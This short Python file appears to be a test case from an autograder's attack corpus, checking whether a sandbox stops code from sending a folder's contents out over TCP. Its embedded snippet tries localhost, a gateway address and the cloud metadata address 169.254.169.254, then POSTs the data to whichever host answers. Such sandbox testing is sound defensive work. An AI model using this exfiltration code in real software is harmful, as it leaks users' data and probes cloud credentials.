"""Everything in the folder is posted to a server over TCP, and over a connection to any other address."""

from tests.autograder.attacks.corpus import PORT, Attack, prize

ATTACK = Attack(
    prize(
        f"""
import socket
def attempt():
    for host in ("127.0.0.1", "::1", "10.0.2.2", "169.254.169.254"):
        try:
            with socket.create_connection((host, {PORT}), 0.2) as sock:
                sock.sendall(b"POST / HTTP/1.0\\r\\n\\r\\n" + str(In).encode())
                return True
        except OSError:
            continue
    return False
"""
    )
)
